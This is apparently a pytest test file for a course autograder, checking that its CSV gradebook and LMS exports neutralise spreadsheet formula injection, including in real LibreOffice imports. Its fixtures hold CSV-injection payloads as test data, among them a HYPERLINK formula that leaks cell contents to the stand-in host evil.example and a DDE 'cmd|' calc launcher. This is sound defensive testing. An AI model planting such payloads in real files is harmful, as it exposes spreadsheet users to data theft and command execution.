"""No CSV the course writes holds a spreadsheet formula (OWASP's CSV injection), however imported.

A class whose student ids, names, emails, LMS ids, notebook names and messages start with
each formula character (``=``, ``+``, ``-``, ``@``, tab, carriage return), or hold one after a
semicolon, a tab, a comma or spaces (``x;=1+1``: a formula when the spreadsheet imports the
file with semicolons or tabs as separators, or trims spaces), goes into a real SQLite
gradebook and into ``grades.csv``; ``grades.csv``, the plain export and the Canvas and Moodle
imports are written, read back with :mod:`csv`, and every cell is checked: one that starts
with a formula character must be a number, any other such text carries a leading
apostrophe, and the scores still read as numbers. Then by rule (every place any of those
imports could start a field) and in real LibreOffice (``soffice --headless --convert-to``
with each separator and trimmed spaces): no cell of any file is a formula, while the same
text written raw is.
"""

import csv
import re
import shutil
import subprocess

import pytest

from autograder.core.gradebook import open_gradebook
from autograder.core.results import Status, StudentResult
from autograder.core.untrusted import FORMULA_STARTS, csv_safe
from autograder.host.exports import export_csv, export_lms
from autograder.host.roster import RosterEntry, sync_roster
from autograder.host.summary import write_csv

# one hostile value per formula character, in every field a student can choose
STUDENTS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "ada"]
# formulas that only another import cuts out: after a semicolon, a tab, a comma, spaces, a quote
INSIDE = ["x;=1+11", "x\t=1+12", "x, =1+13", " =1+14", 'x;"=1+15', "x\n@SUM(1;16)", "x;-1-17"]
ROSTER = [RosterEntry(sid, first_name=f"=first{i}", last_name=f"+last{i}" + INSIDE[i % len(INSIDE)],
                      email=f"@mail{i}" if sid != "ada" else "ada@uni.edu",
                      lms_id=f"-lms{i}" if sid != "ada" else " =1+19")  # a formula once spaces are trimmed
          for i, sid in enumerate(STUDENTS)]
SCORES = {sid: 1.5 * i for i, sid in enumerate(STUDENTS)}


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert(rows):
    """Every cell: a number, or text that does not start with a formula character."""
    neutralised = 0
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert is_number(cell), f"a live formula in {row}: {cell!r}"
            if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
                neutralised += 1
    return neutralised


def read(path):
    with open(path, newline="") as f:
        return list(csv.reader(f))


@pytest.fixture
def gradebook(tmp_path):
    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    with open_gradebook(url) as gb:
        gb.add_assignment("01-rope", duedate="2026-12-01 23:59:00 UTC")
        gb.add_notebook("=cmd|calc", "01-rope")
        gb.add_grade_cell("test_rope", "=cmd|calc", "01-rope", max_score=10, cell_type="code")
        for sid, score in SCORES.items():
            gb.update_or_create_student(sid)
            gb.add_submission("01-rope", sid, timestamp="2026-12-01 20:00:00 UTC")
            grade = gb.find_grade("test_rope", "=cmd|calc", "01-rope", sid)
            grade.auto_score, grade.needs_manual_grade = score, False
            gb.db.commit()
    sync_roster(url, ROSTER)
    return url


def test_exports_hold_no_formula(gradebook, tmp_path):
    export_csv(gradebook, tmp_path / "plain.csv")
    export_lms(gradebook, tmp_path / "canvas.csv", "canvas")
    export_lms(gradebook, tmp_path / "moodle.csv", "moodle")
    plain, canvas, moodle = (read(tmp_path / f"{n}.csv") for n in ("plain", "canvas", "moodle"))
    # every id, name ("First Last"), email and LMS id that starts like a formula
    hostile = [v for e in ROSTER for v in (e.student_id, f"{e.first_name} {e.last_name}", e.email, e.lms_id)
               if v.startswith(FORMULA_STARTS)]
    assert assert_inert(plain) == len(hostile) == 25
    by_id = {row[0]: row for row in plain[1:]}
    for sid in STUDENTS:  # the text is all there, behind one apostrophe, and scores are numbers
        row = by_id[csv_safe(sid)]
        assert float(row[plain[0].index("score")]) == SCORES[sid]
        assert float(row[plain[0].index("max_score")]) == 10
    assert assert_inert(canvas) >= 6 * 2  # name ("Last, First" starts with +) and ID
    assert {float(r[-1]) for r in canvas[2:]} == set(SCORES.values())
    assert assert_inert(moodle) == 6  # the email column
    assert sorted(float(r[1]) for r in moodle[1:]) == sorted(SCORES.values())


def hostile_result(sid, score):
    return StudentResult(student=sid, score=score, max_score=10.0, status=Status.OK,
                         message=f"=HYPERLINK(\"http://evil.example\",\"{sid}\").ipynb;{' '.join(INSIDE)}",
                         flags=["-flag"], tampered=["@cell"], seconds=1.5)


def test_grades_csv_holds_no_formula_and_rewrites_add_no_apostrophe(tmp_path):
    path = tmp_path / "grades.csv"
    write_csv(path, "01-rope", [hostile_result(s, v) for s, v in SCORES.items()], tests=[("nb", "=test")])
    first = read(path)
    header = first[0]
    assert assert_inert(first) > 0
    for row in first[1:]:
        assert float(row[header.index("score")]) in SCORES.values()
        assert float(row[header.index("seconds")]) == 1.5
        assert row[header.index("message")].startswith("'=HYPERLINK") and row[header.index("error")] == ""
        assert row[header.index("flags")] == "'-flag" and row[header.index("tampered")] == "'@cell"
    # another assignment's run reads the file back and rewrites it: the first rows stay as they were
    write_csv(path, "02-gqa", [hostile_result(s, 0.0) for s in STUDENTS[:2]])
    write_csv(path, "02-gqa", [hostile_result(s, 0.0) for s in STUDENTS[:2]])
    again = read(path)
    assert [r for r in again if r[1] == "01-rope"] == [r for r in first if r[1] == "01-rope"]
    assert len(again) == len(first) + 2 and assert_inert(again) > 0
    assert not any(cell.startswith("''") for row in again for cell in row)
    # and a re-grade of the same students replaces their rows (the keys read back match)
    write_csv(path, "01-rope", [hostile_result(s, 9.0) for s in STUDENTS])
    regraded = read(path)
    assert len(regraded) == len(again)
    assert {r[header.index("score")] for r in regraded if r[1] == "01-rope"} == {"9"}


# -- any import: by rule, and in LibreOffice ----------------------------------------------
FIELD_START = re.compile(r'(?:^|[,;\t\r\n])[ "]*([^,;\t\r\n]*)')


def live_fields(text):
    """Every field that starts with a formula character and is no number, wherever a comma,
    semicolon or tab import (quoted or not, spaces trimmed or not) could start one."""
    return [f for f in FIELD_START.findall(text) if f.startswith(FORMULA_STARTS[:4]) and not is_number(f.strip())]


@pytest.fixture
def written(gradebook, tmp_path):
    """Every CSV the course writes from the hostile class, and a control written raw."""
    files = {name: tmp_path / f"{name}.csv" for name in ("plain", "canvas", "moodle", "grades")}
    export_csv(gradebook, files["plain"])
    export_lms(gradebook, files["canvas"], "canvas")
    export_lms(gradebook, files["moodle"], "moodle")
    write_csv(files["grades"], "01-rope", [hostile_result(s, v) for s, v in SCORES.items()])
    control = tmp_path / "control.csv"
    with open(control, "w", newline="") as f:
        csv.writer(f).writerows([["n", "text"]] + [[i, t] for i, t in enumerate(STUDENTS[:4] + INSIDE)])
    return files, control


def test_no_field_of_any_import_is_a_formula_by_rule(written):
    files, control = written
    for name, path in files.items():
        assert live_fields(path.read_text()) == [], name
    assert len(live_fields(control.read_text())) >= 10  # the rule sees the raw text's formulas


SOFFICE = shutil.which("soffice")
# LibreOffice's CSV import options: separators (ASCII codes), quote, UTF-8, first line, cell
# formats, language, quoted field as text, detect special numbers, (export), (export), trim spaces
IMPORTS = {"comma": "44,34,76,1", "comma, trimmed": "44,34,76,1,,0,false,true,false,false,true",
           "semicolon, trimmed": "59,34,76,1,,0,false,true,false,false,true",
           "tab, trimmed": "9,34,76,1,,0,false,true,false,false,true",
           "all three, trimmed": "44/59/9,34,76,1,,0,false,true,false,false,true"}


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice not found: run `apt-get install libreoffice-calc-nogui`")
@pytest.mark.parametrize("how", IMPORTS)
def test_libreoffice_evaluates_no_cell_under_any_separator(written, tmp_path, how):
    """Each file opened by LibreOffice Calc (headless) with one import's options, saved as flat
    ODS: no cell holds a formula; the control, the same text written raw, holds several."""
    files, control = written
    out = tmp_path / how.replace(", ", "-").replace(" ", "-")
    paths = [*files.values(), control]
    done = subprocess.run([SOFFICE, f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless",
                           f"--infilter=CSV:{IMPORTS[how]}", "--convert-to", "fods", "--outdir", str(out),
                           *map(str, paths)], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    formulas = {p.stem: re.findall(r'table:formula="([^"]*)"', (out / f"{p.stem}.fods").read_text())
                for p in paths}
    assert formulas.pop("control"), f"the control held no formula under the {how} import"
    assert formulas == dict.fromkeys(files, []), formulas
